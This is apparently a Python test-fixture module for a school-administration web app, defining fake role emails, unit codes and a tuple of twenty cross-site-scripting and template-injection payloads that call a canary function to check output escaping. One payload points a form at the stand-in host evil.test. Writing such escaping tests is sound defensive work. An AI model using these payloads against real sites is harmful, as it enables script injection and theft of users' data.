"""Names that are attacks: one for each way out of text that a page offers. A class name holds 40 characters."""

AUTHORITY = "<b>Fientlig</b> kommun"
CANARY = "xss"  # a function on each page that tells the test that it was called
PAYLOADS = (
    "<script>xss(1)</script>",
    '"><script>xss(2)</script>',
    "<img src=x onerror=xss(3)>",
    "'\"><svg onload=xss(4)>",
    "<svg><script>xss(5)</script></svg>",
    '<iframe src="javascript:xss(6)">',
    "javascript:xss(7)",
    '" autofocus onfocus="xss(8)',
    "' autofocus onfocus='xss(9)",
    "</title><script>xss(10)</script>",
    "</textarea><script>xss(11)</script>",
    "--><script>xss(12)</script>",
    "<div hx-get=/health hx-trigger=load>",
    "{{ constructor.constructor('xss(14)') }}",
    "{% debug %}${xss(15)}&lt;b&gt;",
    "<a href=javascript:xss(16)>x</a>",
    "<math><mi xlink:href=javascript:xss(17)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;/x>",
    "<form action=//evil.test><button>x",
)
ROLES = (
    *("mentor", "principal", "attendance_coordinator", "pupil_health", "school_nurse", "system_administrator"),
    *("organiser_officer", "legal_guardian", "pupil"),
)


def email_of(role: str) -> str:
    return f"{role}@fientlig.example"


def unit_code(number: int) -> str:
    return f"9911{number:04d}"
